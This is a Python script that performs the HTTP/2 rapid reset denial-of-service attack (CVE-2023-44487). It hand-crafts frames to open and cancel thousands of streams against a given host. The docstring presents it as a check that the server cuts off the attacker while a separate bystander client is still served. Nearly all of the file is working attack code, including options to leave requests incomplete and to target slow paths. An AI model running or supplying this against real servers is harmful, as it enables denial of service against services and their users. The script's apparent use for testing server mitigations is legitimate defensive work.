#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487): opens streams and resets them by the thousand, with frames made by hand.

rapid_reset.py HOST PORT PATH [--plain] [--unfinished] [--slow-path PATH]

Succeeds when the attacker is cut off within the bound while another client, on a connection of its own, goes on being served.
--unfinished leaves the requests incomplete (no END_STREAM) before it resets them.
"""
import argparse
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM, GOAWAY = 4, 1, 3, 7
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A field whose name is in HPACK's static table, not added to the dynamic one (RFC 7541 §6.2.2)."""
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value


def head(authority, path):
    return bytes([0x82, 0x87]) + literal(4, path.encode()) + literal(1, authority.encode())  # GET, https


def connect(arguments):
    raw = socket.create_connection((arguments.host, arguments.port), timeout=5)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if arguments.plain:
        return raw
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(raw, server_hostname=arguments.host)


def attack(arguments, pairs):
    """Returns how many pairs could be sent before the connection was closed, or None when all could."""
    connection = connect(arguments)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    fields = head(arguments.host, arguments.slow_path or arguments.path)
    flags = END_HEADERS if arguments.unfinished else END_HEADERS | END_STREAM
    stream, sent = 1, 0
    try:
        while sent < pairs:
            batch = b""
            for _ in range(10):
                batch += frame(HEADERS, flags, stream, fields)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
            connection.sendall(batch)
            sent += 10
            time.sleep(0.002)
        connection.settimeout(2)
        while connection.recv(65536):
            pass
        return sent
    except TimeoutError:
        return None
    except OSError:
        return sent


class Bystander(threading.Thread):
    """Another client: one HTTP/1.1 request after the other; the slowest is remembered."""

    def __init__(self, arguments):
        super().__init__(daemon=True)
        self.arguments, self.served, self.slowest, self.failure, self.stop = arguments, 0, 0.0, None, False

    def run(self):
        request = f"GET {self.arguments.path} HTTP/1.1\r\nHost: {self.arguments.host}\r\nConnection: close\r\n\r\n".encode()
        while not self.stop:
            began = time.monotonic()
            try:
                raw = socket.create_connection((self.arguments.host, self.arguments.port), timeout=5)
                if not self.arguments.plain:
                    context = ssl.create_default_context()
                    context.check_hostname = False
                    context.verify_mode = ssl.CERT_NONE
                    raw = context.wrap_socket(raw, server_hostname=self.arguments.host)
                raw.sendall(request)
                answer = b""
                while more := raw.recv(65536):
                    answer += more
                raw.close()
                if not answer.startswith(b"HTTP/1.1 "):
                    self.failure = repr(answer[:40])
            except OSError as error:
                self.failure = repr(error)
            self.served += 1
            self.slowest = max(self.slowest, time.monotonic() - began)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("path")
    parser.add_argument("--plain", action="store_true", help="HTTP/2 with prior knowledge, no TLS")
    parser.add_argument("--unfinished", action="store_true", help="reset requests that are not whole yet")
    parser.add_argument("--slow-path", help="what the attacker asks for")
    parser.add_argument("--pairs", type=int, default=20000)
    arguments = parser.parse_args()

    bystander = Bystander(arguments)
    bystander.start()
    began = time.monotonic()
    sent = attack(arguments, arguments.pairs)
    took = time.monotonic() - began
    time.sleep(0.5)
    bystander.stop = True
    bystander.join(10)
    cut = sent is not None and sent < arguments.pairs
    print(f"attacker: {'cut off after' if cut else 'never cut off in'} {sent or arguments.pairs} pairs, {took:.2f} s")
    print(f"bystander: {bystander.served} requests served, slowest {bystander.slowest * 1000:.0f} ms, failure {bystander.failure}")
    return 0 if cut and bystander.served and not bystander.failure and bystander.slowest < 2 else 1


if __name__ == "__main__":
    sys.exit(main())
